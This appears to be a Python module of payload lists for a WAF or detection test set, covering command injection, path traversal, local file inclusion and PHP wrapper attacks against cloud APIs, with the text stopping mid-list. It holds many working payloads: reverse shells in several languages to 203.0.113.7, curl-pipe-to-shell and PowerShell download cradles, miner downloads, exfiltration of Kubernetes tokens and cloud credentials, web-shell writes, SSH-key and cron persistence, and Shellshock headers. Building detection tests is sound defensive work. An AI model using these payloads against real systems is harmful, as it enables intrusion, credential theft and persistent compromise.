"""Blind set "twohundredfirst": OS command injection, local file inclusion / path traversal and remote file
inclusion aimed at cloud-native, API-first back ends, with benign requests that carry the same words innocently.

The angle: modern services behind an edge, recalled from memory. The sinks are JSON REST APIs and GraphQL
resolvers that shell out (ping, dig, git, ffmpeg, ImageMagick, wkhtmltopdf), serverless functions fed by storage
events, ORMs whose raw-query escape hatches (Sequelize, TypeORM, Prisma $queryRawUnsafe, SQLAlchemy text(), Django
extra()) reach PostgreSQL's COPY ... TO PROGRAM or pg_read_file, Node/Express, Spring Boot, FastAPI and Go services
serving files by key, CI/CD and chat webhook consumers that interpolate branch names, Kubernetes and cloud metadata
endpoints, object-storage keys, server-side renderers (Next.js, Nuxt, Vite dev servers), headless-browser PDF and
image renderers, search engines (Elasticsearch, Solr) and caches (Redis). Each group of payloads carries a comment
naming the family, the service and the target (shell, cmd.exe, PowerShell, bash CGI, PHP interpreter, JSTL,
database, browser, product).

Families (one sub-family per detection title):
  rce: unix-command-injection, unix-shell-evasion, windows-cmd-injection, powershell, unix-command-with-path,
    reverse-shell, shellshock, downloader, shell-file-write, restricted-file-in-command
  lfi: path-traversal, os-file-access, absolute-path, null-byte-truncation, php-wrapper-lfi, log-poisoning-target,
    restricted-file-extension
  rfi: url-with-ip-address, url-with-trailing-question-mark, include-parameter-with-url, off-domain-reference,
    protocol-scheme

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, a JSON field of /api/users, the same field nested in a filter object, in a JSON Patch array and in
GraphQL variables, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body, a multipart field,
the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to paths that are not our
routes (/, /graphql, /api/v1/items, /webhooks/ci, /post, /api/v1/render, /cgi-bin/test.cgi) under arbitrary
parameter names, as a query string, form body, JSON body (flat, JSON:API-nested or GraphQL variables), XML body, a
raw form-typed body, or in User-Agent, Referer, a custom header or a cookie. Field names follow the category (host,
ref, repo_url for commands; file, path, key for files; url, callback_url, webhook_url for remote references;
page, template, include for include parameters). Shellshock goes only into headers; whole GraphQL documents,
webhook and storage-event bodies go as the JSON body. Payloads with control characters (a NUL byte, a newline)
never go into headers, cookies or the path.

Authorship and independence: written for this repository from general knowledge of each attack family, of the
services named above, and the detection titles alone; no WAF rule, engine source, ruleset regression test or
public payload list was read. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet, Put, Record, request
from .family_gen import _json
from .records import print_records

NAME = "twohundredfirst"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
JB = ("json-body", "rs-json-body")
UA_H = ("header:User-Agent", "rs-header:User-Agent")
REF_H = ("header:Referer", "rs-header:Referer")
API_H = ("header:X-Api-Version", "rs-header:X-Test-Header")

# ================================================================================================================
# rce
# ================================================================================================================
# unix-command-injection: ; | || && ` $() and newline after the value a service hands to /bin/sh -c
CMD_SEPARATORS: list[Entry] = [
    # Node/Express avatar resizer: child_process.exec(`convert ${file} -resize 128x128 out.png`) (target: /bin/sh)
    "avatar.png; id",
    "avatar.png | id",
    "avatar.png && cat /etc/passwd",
    "missing.png || uname -a",
    "`id`.png",
    "$(whoami).png",
    "avatar.png\nid",
    # Go diagnostics service: exec.Command("sh", "-c", "ping -c 1 "+host) (target: /bin/sh in the pod)
    "127.0.0.1; cat /var/run/secrets/kubernetes.io/serviceaccount/token",
    "10.0.0.1 && printenv AWS_SECRET_ACCESS_KEY",
    "8.8.8.8$(id)",
    # FastAPI repo importer: subprocess.run(f"git clone {repo_url} /tmp/w", shell=True) (target: /bin/sh)
    "https://github.com/acme/app.git; id > /tmp/pwned",
    "https://github.com/acme/app.git && ls -la /app",
    # CI webhook consumer: `git fetch origin ${ref} && git checkout ${ref}` (target: runner's bash)
    "main;id",
    "refs/heads/main`id`",
    # Python Lambda thumbnailer fed by S3 events: os.system("ffmpeg -i /tmp/" + key + " -vframes 1 t.jpg")
    "clips/intro.mp4; ls /var/task",
    # GraphQL resolver shelling out to nslookup, the argument inline in the document (Apollo server -> /bin/sh)
    ('{"query":"mutation { diagnostics { lookup(domain: \\"example.com; id\\") { output } } }"}', *JB),
    # GitHub push webhook: the consumer runs `git checkout $ref` with the ref from the body (target: bash)
    ('{"ref":"refs/heads/main;id","repository":{"full_name":"acme/api"},"after":"4f1c2e0"}', *JB),
]

# unix-shell-evasion: the command survives a filter on spaces or keywords ($IFS, quotes, globs, braces, variables)
SHELL_EVASION: list[Entry] = [
    # Node/Express DNS check: exec("dig +short " + host), the validator rejects spaces (target: /bin/sh, bash)
    "example.com;cat${IFS}/etc/passwd",
    "example.com;cat$IFS/etc/passwd",
    "example.com;{cat,/etc/passwd}",
    "example.com;cat</etc/passwd",
    "example.com;X=$'cat\\x20/etc/passwd'&&$X",
    # Go webhook relay with a blocklist on "cat", "passwd", "id", "whoami" (target: /bin/sh)
    "x;c'a't /etc/pa''sswd",
    "x;\\c\\a\\t /etc/\\p\\a\\s\\s\\w\\d",
    "x;/bin/c?t /etc/p?sswd",
    "x;/???/c?t /???/p?ss??",
    "x;a=ca;b=t;$a$b /etc/passwd",
    "x;cat ${HOME:0:1}etc${HOME:0:1}passwd",
    "x;w$@hoami",
    "x;echo 'imaohw'|rev|sh",
    # base64 and printf smuggling past a keyword filter in a FastAPI admin tool (target: bash)
    "x;echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh",
    "x;$(printf '\\x63\\x61\\x74\\x20\\x2f\\x65\\x74\\x63\\x2f\\x70\\x61\\x73\\x73\\x77\\x64')",
    "x;bash<<<$(base64 -d<<<aWQ=)",
    # GitHub Actions: a branch name is interpolated into run: via ${{ github.head_ref }} (target: runner's bash)
    ('{"pull_request":{"head":{"ref":"fix-$(curl${IFS}-sSfL${IFS}203.0.113.7/x|sh)"}},"action":"opened"}', *JB),
]

# windows-cmd-injection: & && | || after the value, carets and quotes inside words (target: cmd.exe)
WINDOWS_CMD: list[Entry] = [
    # .NET 6 API in a Windows container: Process.Start("cmd.exe", "/c ping -n 1 " + host) (target: cmd.exe)
    "127.0.0.1 & whoami",
    "127.0.0.1 && type C:\\Windows\\win.ini",
    "127.0.0.1 | dir C:\\",
    "127.0.0.1 || net user",
    "127.0.0.1 & ipconfig /all",
    "127.0.0.1 & net localgroup administrators",
    "127.0.0.1 & net user svc_backup P@ssw0rd123! /add",
    # cmd.exe evasion: carets, empty quotes, delayed expansion, for /f exfiltration over DNS
    "127.0.0.1 & w^h^o^a^m^i",
    "127.0.0.1 & who\"\"ami",
    "127.0.0.1 & cmd /v:on /c \"set x=whoami&&!x!\"",
    "127.0.0.1 & for /f %i in ('whoami') do nslookup %i.oob.attacker.example",
    # Node on Windows (child_process.exec uses cmd.exe): report exporter quoting the file name
    "report.pdf\" & type %USERPROFILE%\\.aws\\credentials & \"",
    "report.pdf\" | type C:\\inetpub\\wwwroot\\web.config | \"",
    # stage two and persistence from cmd.exe (certutil, wmic, schtasks)
    "127.0.0.1 & certutil -urlcache -split -f http://203.0.113.7/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe",
    "127.0.0.1 & wmic process call create \"cmd.exe /c whoami > C:\\Windows\\Temp\\o.txt\"",
    "127.0.0.1 & schtasks /create /tn upd /tr \"cmd /c whoami\" /sc minute /ru SYSTEM",
]

# powershell: script fragments where a service builds PowerShell from input (target: powershell.exe / pwsh)
POWERSHELL: list[Entry] = [
    # Azure Functions (PowerShell worker): Invoke-Expression "Test-Connection $($Request.Body.host)"
    "127.0.0.1; Get-ChildItem env:",
    "127.0.0.1; Get-Content C:\\Windows\\win.ini",
    "$(Get-Content C:\\Windows\\win.ini)",
    "127.0.0.1; whoami /priv",
    "\"; & ([scriptblock]::Create('whoami')); \"",
    # download cradles and encoded commands launched from cmd.exe in a .NET service
    "127.0.0.1 & powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://203.0.113.7/p.ps1')\"",
    "127.0.0.1 & powershell -enc dwBoAG8AYQBtAGkA",
    "127.0.0.1 & powershell -w hidden -EncodedCommand aQBlAHgAKABpAHcAcgAgAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAx"
    "ADMALgA3AC8AYQAuAHAAcwAxACAALQBVAHMAZQBCAGEAcwBpAGMAUABhAHIAcwBpAG4AZwApAA==",
    "127.0.0.1 & powershell.exe -ExecutionPolicy Bypass -File \\\\203.0.113.7\\s\\a.ps1",
    "'; IEX (Invoke-WebRequest -UseBasicParsing http://203.0.113.7/s.ps1).Content; '",
    "127.0.0.1; iwr http://203.0.113.7/b.exe -OutFile $env:TEMP\\b.exe; & $env:TEMP\\b.exe",
    "127.0.0.1; IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('d2hvYW1p')))",
    "127.0.0.1; [System.Diagnostics.Process]::Start('cmd.exe','/c net user')",
    # exfiltrate cloud credentials from a Windows build agent (target: pwsh)
    "127.0.0.1; Invoke-RestMethod -Uri http://203.0.113.7/c -Method Post -Body (Get-Content "
    "$env:USERPROFILE\\.azure\\msal_token_cache.json -Raw)",
    "127.0.0.1; Invoke-RestMethod -Headers @{Metadata='true'} 'http://169.254.169.254/metadata/identity/oauth2/"
    "token?api-version=2018-02-01&resource=https://management.azure.com/'",
    # pwsh on Linux containers (PowerShell 7 as a CI step shell)
    "main; pwsh -c 'Get-ChildItem /var/run/secrets -Recurse'",
]

# unix-command-with-path: absolute binaries (a PATH-less environment, or a filter on bare command names)
CMD_WITH_PATH: list[Entry] = [
    # FastAPI PDF export: subprocess.run(f"wkhtmltopdf {url} /tmp/out.pdf", shell=True) (target: /bin/sh)
    "https://example.com; /bin/cat /etc/passwd",
    "https://example.com; /usr/bin/id",
    "https://example.com && /usr/bin/whoami",
    "https://example.com | /bin/sh -c id",
    # Spring Boot network tool: new ProcessBuilder("sh", "-c", "traceroute " + host) (target: /bin/sh)
    "example.com; /usr/bin/curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "example.com; /usr/bin/wget -qO- --header=Metadata-Flavor:Google "
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "example.com; /bin/bash -c 'id'",
    "example.com; /usr/bin/python3 -c 'import os;os.system(\"id\")'",
    "example.com; /usr/bin/perl -e 'system(\"id\")'",
    "example.com; /usr/local/bin/node -e \"require('child_process').execSync('id',{stdio:'inherit'})\"",
    "example.com;/usr/bin/uname -a",
    # Go image service shelling to ImageMagick, the attacker reaching cluster and cloud tooling in the pod
    "in.png; /usr/bin/find / -name '*.pem' -o -name 'id_rsa'",
    "in.png; /usr/local/bin/kubectl get secrets -A -o yaml",
    "in.png; /usr/local/bin/aws sts get-caller-identity",
    # Prisma $queryRawUnsafe / Sequelize raw query reaching PostgreSQL COPY ... TO PROGRAM (target: postgres /bin/sh)
    "1; COPY (SELECT '') TO PROGRAM '/usr/bin/id > /tmp/o'--",
    "1'; CREATE TABLE o(t text); COPY o FROM PROGRAM '/usr/bin/env'; SELECT * FROM o--",
]

# reverse-shell: interactive shells back to the attacker from a pod, a Lambda or a build runner
REVERSE_SHELL: list[Entry] = [
    # Node/Express exec sink in a Kubernetes pod (target: bash, /dev/tcp)
    "x; bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    "x; bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'",
    "x; exec 5<>/dev/tcp/203.0.113.7/4444;cat <&5|while read l;do $l 2>&5 >&5;done",
    # netcat variants (-e where the build has it, the mkfifo form where it does not)
    "x; nc -e /bin/sh 203.0.113.7 4444",
    "x; nc 203.0.113.7 4444 -e /bin/bash",
    "x; rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f",
    # interpreters present in the image (python, perl, php, ruby, node, awk)
    "x; python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.7\",4444));"
    "[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])'",
    "x; python -c 'import pty,socket,os;s=socket.socket();s.connect((\"203.0.113.7\",4444));"
    "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'",
    "x; perl -e 'use Socket;$i=\"203.0.113.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");"
    "open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'",
    "x; php -r '$s=fsockopen(\"203.0.113.7\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    "x; ruby -rsocket -e'f=TCPSocket.open(\"203.0.113.7\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\","
    "f,f,f)'",
    "x; node -e 'sh=require(\"child_process\").spawn(\"/bin/sh\");c=require(\"net\").connect(4444,\"203.0.113.7\","
    "()=>{c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c)})'",
    "x; awk 'BEGIN{s=\"/inet/tcp/0/203.0.113.7/4444\";while(1){printf \"> \"|&s;s|&getline c;"
    "if(c){while((c|&getline)>0)print|&s;close(c)}}}'",
    # socat with a pty
    "x; socat tcp-connect:203.0.113.7:4444 exec:/bin/sh,pty,stderr,setsid,sigint,sane",
    # CI runner: a GitLab webhook's branch name interpolated into a script step (target: bash)
    "main$(bash -c 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1')",
    # PostgreSQL reached through an ORM raw query (SQLAlchemy text(), Django extra()): COPY TO PROGRAM
    "1; COPY (SELECT 1) TO PROGRAM 'bash -c \"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\"'--",
]

# shellshock: a bash function definition in a header a CGI script exports as HTTP_* (target: bash < 4.3 via CGI)
SHELLSHOCK: list[Entry] = [
    # legacy health-check and monitoring CGI scripts left behind the API gateway (mod_cgi, fcgiwrap)
    ("() { :; }; /bin/bash -c 'id'", *UA_H),
    ("() { :;}; echo; /bin/cat /etc/passwd", *REF_H),
    ("() { ignored;}; /usr/bin/id", *API_H),
    ("() { :; }; /bin/bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", *UA_H),
    ("() { :; }; /usr/bin/curl -s http://203.0.113.7/x.sh | /bin/bash", *REF_H),
    ("() { :; }; /usr/bin/wget -qO /tmp/k http://203.0.113.7/k; /bin/chmod +x /tmp/k; /tmp/k", *API_H),
    ("() { :;}; /bin/sleep 10", *UA_H),
    ("() { _; } >_[$($())] { echo; /usr/bin/id; }", *REF_H),
    ("() { :; }; echo Content-Type: text/plain; echo; /usr/bin/env", *API_H),
    ("() { (a)=>\\' /bin/bash -c 'echo vulnerable'", *UA_H),
    ("() { :; }; /usr/bin/nslookup shellshock.oob.attacker.example", *API_H),
    ("() { :; }; /bin/bash -c 'nc -e /bin/sh 203.0.113.7 4444'", *UA_H),
    ("() { :a; }; /bin/cat /etc/shadow", *REF_H),
    ("() { :; }; echo; /bin/cat /var/run/secrets/kubernetes.io/serviceaccount/token", *API_H),
    ("() { :; }; /bin/bash -c \"echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKq7 x >> /root/.ssh/authorized_keys\"",
     *UA_H),
    ("() { :; }; echo; /bin/bash -c 'cat /etc/hostname; id'", "header:Cookie", "rs-header:X-Test-Header"),
]

# downloader: fetch a stage two and run it (curl|sh, wget -O, interpreters), the cryptominer favourite
DOWNLOADER: list[Entry] = [
    # Node/Express package preview service: exec(`npm view ${pkg} version`) (target: /bin/sh in the pod)
    "lodash; curl -s http://203.0.113.7/i.sh | sh",
    "lodash; curl -fsSL https://attacker.example/install.sh | bash",
    "lodash; wget -qO- http://203.0.113.7/i.sh | sh",
    "lodash; wget http://203.0.113.7/miner -O /tmp/.x; chmod +x /tmp/.x; /tmp/.x",
    "lodash; curl -o /tmp/k http://203.0.113.7/kinsing && chmod 777 /tmp/k && /tmp/k",
    "$(curl -s http://203.0.113.7/p|bash)",
    "`wget -q -O - http://203.0.113.7/p|sh`",
    # Go webhook consumer in a minimal image: busybox wget, python's urllib, a miner tarball
    "x; busybox wget http://203.0.113.7/amd64 -O- > /tmp/m; sh /tmp/m",
    "x; python3 -c \"import urllib.request as u;exec(u.urlopen('http://203.0.113.7/s.py').read())\"",
    "x; curl -s http://203.0.113.7/xmrig.tar.gz | tar xz -C /tmp && /tmp/xmrig -o pool.attacker.example:3333",
    # exfiltration with the same tools (service-account token, environment, cloud credentials)
    "x; curl -sk https://203.0.113.7:8443/t -d @/var/run/secrets/kubernetes.io/serviceaccount/token",
    "x; curl -X POST -d \"$(env)\" http://203.0.113.7/c",
    "x; wget --post-file=/root/.aws/credentials http://203.0.113.7/u",
    # PostgreSQL via Prisma $queryRawUnsafe: the database host downloads and runs the stage two
    "1; COPY (SELECT '') TO PROGRAM 'curl -s http://203.0.113.7/pg.sh | sh'--",
    # Redis cache API: the value that CONFIG SET dir /etc/cron.d then SAVE turns into a cron job (target: crond)
    "*/1 * * * * root curl -fsSL http://203.0.113.7/r.sh | sh",
    # S3 event to a Lambda that runs ffmpeg through a shell: the object key carries the download
    ('{"Records":[{"s3":{"bucket":{"name":"media-in"},"object":{"key":"a.mp4;curl 203.0.113.7/l|sh"}}}]}', *JB),
]

# shell-file-write: echo / printf / tee writing a web shell, a key, a cron job or a startup hook
SHELL_FILE_WRITE: list[Entry] = [
    # PHP-FPM sidecar sharing a volume with the Go API (target: /bin/sh writing into the web root)
    "x; echo '<?php system($_GET[\"c\"]); ?>' > /var/www/html/s.php",
    "x; echo PD9waHAgc3lzdGVtKCRfR0VUWyJjbWQiXSk7Pz4= | base64 -d > /var/www/html/health.php",
    "x; tee /usr/local/tomcat/webapps/ROOT/s.jsp <<< '<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>'",
    # persistence in the container or on the node (ssh key, cron, profile, ld.so.preload)
    "x; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKq7x9Jm attacker@kali' >> /root/.ssh/authorized_keys",
    "x; echo '* * * * * root curl -s http://203.0.113.7/c|sh' > /etc/cron.d/sync",
    "x; echo 'r00t::0:0::/root:/bin/bash' >> /etc/passwd",
    "x; echo 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' >> ~/.bashrc",
    "x; echo /tmp/x.so > /etc/ld.so.preload",
    "x; printf '#!/bin/sh\\nnc -e /bin/sh 203.0.113.7 4444\\n' > /tmp/r.sh; sh /tmp/r.sh",
    "x; echo c2ggLWkgPiYgL2Rldi90Y3AvMjAzLjAuMTEzLjcvNDQ0NCAwPiYx | base64 -d > /tmp/r.sh",
    # interpreter hooks that run on the next start of the service (Node, Python, Ruby)
    "x; echo 'require(\"child_process\").exec(process.env.C)' | tee -a /app/node_modules/express/index.js",
    "x; echo 'import os; os.system(\"curl -s 203.0.113.7/p|sh\")' > /usr/local/lib/python3.11/site-packages/x.pth",
    "x; echo 'PermitRootLogin yes' | tee -a /etc/ssh/sshd_config",
    # PostgreSQL through an ORM raw query: COPY ... TO a file under the web root (target: postgres file write)
    "1; COPY (SELECT '<?php system($_GET[1]);?>') TO '/var/www/html/p.php'--",
    "1'; COPY (SELECT 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKq7') TO '/var/lib/postgresql/.ssh/authorized_keys'--",
    # Redis behind the cache API: the same write done with CONFIG SET dir/dbfilename (target: Redis)
    "x\r\nCONFIG SET dir /var/www/html\r\nCONFIG SET dbfilename s.php\r\n"
    "SET k \"<?php system($_GET[1]);?>\"\r\nSAVE\r\n",
]

# restricted-file-in-command: reading secrets and system files with ordinary commands after the separator
RESTRICTED_FILE_CMD: list[Entry] = [
    # Node/Express exec sink in a pod: credentials the workload can read (target: /bin/sh)
    "x; cat /etc/shadow",
    "x; cat ~/.aws/credentials",
    "x; cat /root/.ssh/id_rsa",
    "x; cat /var/run/secrets/kubernetes.io/serviceaccount/token",
    "x; cat /proc/self/environ",
    "x; cat .env",
    "x; cat /app/.git/config",
    "x; grep -r AKIA /home /root 2>/dev/null",
    "x; cat ~/.kube/config",
    "x; cat ~/.docker/config.json",
    "x; cat /etc/sudoers",
    "x; base64 /root/.bash_history",
    "x; cat /home/*/.ssh/id_ed25519",
    "x; cat /etc/kubernetes/admin.conf",
    # Windows service: type the same kind of files (target: cmd.exe)
    "x & type C:\\Windows\\System32\\config\\SAM",
    "x & type %SYSTEMROOT%\\repair\\SAM",
]

# ================================================================================================================
# lfi
# ================================================================================================================
# path-traversal: ../ and ..\ in every encoding against file-serving endpoints
TRAVERSAL: list[Entry] = [
    # Node/Express download route: res.sendFile(path.join(ROOT, req.query.file)) (target: the filesystem)
    "../../../../etc/passwd",
    "..\\..\\..\\..\\windows\\win.ini",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "..%252f..%252f..%252f..%252fetc%252fpasswd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    # non-shortest UTF-8 and Unicode slashes for decoders that normalise late (Go, Java, IIS)
    "..%c0%af..%c0%af..%c0%afetc/passwd",
    "..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd",
    "..%c1%9c..%c1%9c..%c1%9cwindows%c1%9cwin.ini",
    "..%u2216..%u2216..%u2216windows%u2216win.ini",
    "%uff0e%uff0e/%uff0e%uff0e/etc/passwd",
    # strip-once filters (a single str.replace("../", "")) in a FastAPI media endpoint
    "....//....//....//etc/passwd",
    "..././..././..././etc/passwd",
    "..\\/..\\/..\\/etc/passwd",
    # backslash traversal into Windows paths (ASP.NET Core on Windows, Node on Windows)
    "%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5cwin.ini",
    "..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts",
    # products: Tomcat/Spring ..;/, Spring Cloud Config, Grafana plugin route, Elasticsearch snapshot names
    "..;/..;/..;/WEB-INF/web.xml",
    "..%252F..%252F..%252F..%252Fetc%252Fpasswd%23foo/development",
    "public/plugins/alertlist/../../../../../../../../etc/passwd",
    "backup/..%2f..%2f..%2f..%2fetc%2fpasswd",
    # object-storage proxy: the key joined to a local cache directory (MinIO gateway, S3 mock)
    "reports/2024/../../../../../proc/self/environ",
    "files/..%2F..%2F..%2F..%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fapp%2fconfig%2fapplication.yml",
    ('{"query":"query { export(path: \\"../../../../etc/passwd\\") { content } }"}', *JB),
]

# os-file-access: the sensitive files themselves (passwd, /proc/self, win.ini, web.config, .git, .env, keys)
OS_FILES: list[Entry] = [
    # Go file server with http.ServeFile and a relative root (target: the container filesystem)
    "../../../../proc/self/environ",
    "../../../../proc/self/cmdline",
    "../../../../proc/self/cwd/main.go",
    "../../../../proc/1/environ",
    # application secrets next to the code (Node, Laravel, Django, Rails)
    "../../../.env",
    "../.env.production",
    "../../.git/config",
    "../../.git/HEAD",
    "../../../.aws/credentials",
    "../../../../root/.ssh/id_rsa",
    "../../../../home/node/.ssh/id_ed25519",
    "../../../../root/.kube/config",
    "../../../../root/.docker/config.json",
    "../../../../etc/shadow",
    "../../../../etc/kubernetes/pki/ca.key",
    "../../../var/run/secrets/kubernetes.io/serviceaccount/token",
    # Windows hosts (IIS, ASP.NET Core) and Apache/Java web roots
    "..\\..\\..\\windows\\win.ini",
    "..\\..\\..\\..\\boot.ini",
    "..\\..\\web.config",
    "../../.htaccess",
    "../../.htpasswd",
    "../WEB-INF/web.xml",
    "../WEB-INF/classes/application.properties",
    ('{"template":"../../../../etc/passwd","data":{"invoice":42},"format":"pdf"}', *JB),
]

# absolute-path: a full path where the service expected a relative key or an URL
ABSOLUTE: list[Entry] = [
    # FastAPI: FileResponse(os.path.join(BASE, name)) - os.path.join drops BASE for an absolute name
    "/etc/passwd",
    "/etc/shadow",
    "/etc/hosts",
    "/proc/self/environ",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "/var/run/secrets/eks.amazonaws.com/serviceaccount/token",
    "/root/.ssh/authorized_keys",
    "/home/app/.aws/credentials",
    "/app/.env",
    "/opt/app/config/application.properties",
    "/etc/nginx/nginx.conf",
    # Windows absolute paths (ASP.NET Core, Node on Windows)
    "C:\\Windows\\win.ini",
    "C:/Windows/System32/drivers/etc/hosts",
    "C:\\boot.ini",
    "C:\\inetpub\\wwwroot\\web.config",
    # headless Chromium / wkhtmltopdf PDF renderers: page.goto(url) or an HTML field (target: the browser)
    "file:///etc/passwd",
    "file:///proc/self/environ",
    "<iframe src=\"file:///etc/passwd\" width=\"900\" height=\"900\"></iframe>",
    # Vite dev server behind a Nuxt/SvelteKit preview deploy: the /@fs/ route (target: Vite)
    "/@fs/etc/passwd?import&raw??",
    # PostgreSQL file read through an ORM raw query (Prisma $queryRawUnsafe, Django extra(select=...))
    "1 UNION SELECT pg_read_file('/etc/passwd')--",
    "(select pg_read_file('/var/lib/postgresql/.pgpass'))",
    "1; COPY t FROM '/etc/passwd'--",
]

# null-byte-truncation: a NUL or an over-long path cuts off the extension the service appends
NULL_BYTE: list[Entry] = [
    # legacy PHP 5.2 template include behind the API gateway, and a C-based image library (target: fopen)
    "../../../../etc/passwd%00",
    "../../../../etc/passwd%00.png",
    "../../../../etc/passwd\x00.jpg",
    "/etc/passwd%00.html",
    "../../../etc/passwd%2500.pdf",
    "..\\..\\..\\windows\\win.ini%00.txt",
    "../../../etc/passwd\x00",
    "/proc/self/environ%00",
    "../../config/database.yml%00.txt",
    "..%2f..%2f..%2fetc%2fpasswd%00.json",
    "../../../../etc/passwd\u0000.yaml",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd%00.css",
    "../../../../root/.ssh/id_rsa%00.pub",
    "../../../.env%00.example",
    "../../../../var/log/nginx/access.log%00",
    "C:\\Windows\\win.ini%00.pdf",
    "..%5c..%5cboot.ini%00.txt",
    # path truncation past PATH_MAX (old PHP on Linux: 4096, Windows: 260 with trailing dots)
    "../../../../etc/passwd" + "/." * 2100,
    "../../../../etc/passwd" + "/" * 4100 + ".php",
    "..\\..\\..\\boot.ini" + "." * 300,
    # a fragment or query that truncates the appended extension when the path is fetched as an URL (Puppeteer)
    "file:///etc/passwd#.html",
    "file:///etc/passwd?.pdf",
]

# php-wrapper-lfi: PHP stream wrappers in an include or file_get_contents (Laravel/Symfony/WordPress headless APIs)
PHP_WRAPPER: list[Entry] = [
    # Laravel API: view or file_get_contents with a user-chosen path (target: PHP interpreter)
    "php://filter/convert.base64-encode/resource=../.env",
    "php://filter/read=convert.base64-encode/resource=index.php",
    "php://filter/convert.base64-encode/resource=/var/www/html/config/database.php",
    "php://filter/string.rot13/resource=config.php",
    "php://filter/convert.iconv.utf-8.utf-16/resource=/etc/passwd",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd",
    "pHp://FilTer/convert.base64-encode/resource=wp-config.php",
    "php://filter/resource=/etc/passwd",
    "php://filter/convert.base64-encode/resource=../storage/logs/laravel.log",
    "php://filter/read=string.toupper|string.rot13/resource=../app/etc/env.php",
    "php://filter/convert.quoted-printable-encode/resource=../../.git/config",
    "php://filter/convert.base64-encode|convert.base64-decode/resource=/proc/self/environ",
    "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode/resource=/etc/passwd",
    "php://input",
    # archive wrappers on an uploaded file (avatar, invoice, import zip)
    "phar:///var/www/storage/app/uploads/avatar.jpg/test.txt",
    "phar://./uploads/invoice.pdf",
    "zip:///var/www/storage/app/public/import.zip#shell.php",
    "zip://uploads/export.zip%23config.php",
    "compress.zlib:///etc/passwd",
    "compress.zlib://php://filter/resource=/etc/passwd",
    "glob:///var/www/html/*",
    # WordPress headless (WPGraphQL): a template field rendered with include
    ('{"query":"{ page(id: \\"php://filter/convert.base64-encode/resource=wp-config.php\\") { content } }"}', *JB),
]

# log-poisoning-target: files an attacker can write into (logs, sessions, mail) and then include
LOG_POISONING: list[Entry] = [
    # Nginx/Apache logs under the usual prefixes (the User-Agent carries the PHP first)
    "../../../../var/log/nginx/access.log",
    "../../../../var/log/nginx/error.log",
    "../../../../var/log/apache2/access.log",
    "../../../../var/log/apache2/error.log",
    "../../../../var/log/httpd/access_log",
    "/usr/local/apache2/logs/access_log",
    "/var/log/auth.log",
    "/var/log/mail.log",
    "/var/mail/www-data",
    # container stdout/stderr and Kubernetes node log paths
    "/proc/self/fd/1",
    "/proc/self/fd/2",
    "../../../../proc/self/fd/0",
    "/var/log/containers/api-7d9f8c6b5-x2k4q_default_api-1a2b3c4d.log",
    "/var/log/pods/default_api-7d9f8c6b5-x2k4q_0f1e2d3c/api/0.log",
    "/home/node/.pm2/logs/api-out.log",
    # application and datastore logs (Laravel, Elasticsearch, Redis)
    "../../../storage/logs/laravel.log",
    "/var/log/elasticsearch/elasticsearch.log",
    "/var/log/redis/redis-server.log",
    # PHP session files (a session value set to PHP code, then included)
    "../../../../tmp/sess_d2c8e1f0a9b7c6d5e4f3a2b1c0d9e8f7",
    "/var/lib/php/sessions/sess_a1b2c3d4e5f6a7b8c9d0",
    # Windows (IIS, XAMPP)
    "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex240601.log",
    "C:\\xampp\\apache\\logs\\access.log",
]

# restricted-file-extension: backups, swap files and config/ini/sql dumps fetched by name
RESTRICTED_EXT: list[Entry] = [
    # object-storage / static routes that serve whatever key is asked for (target: the deploy directory)
    "config.php.bak",
    "../config/database.yml.old",
    "../../app.config",
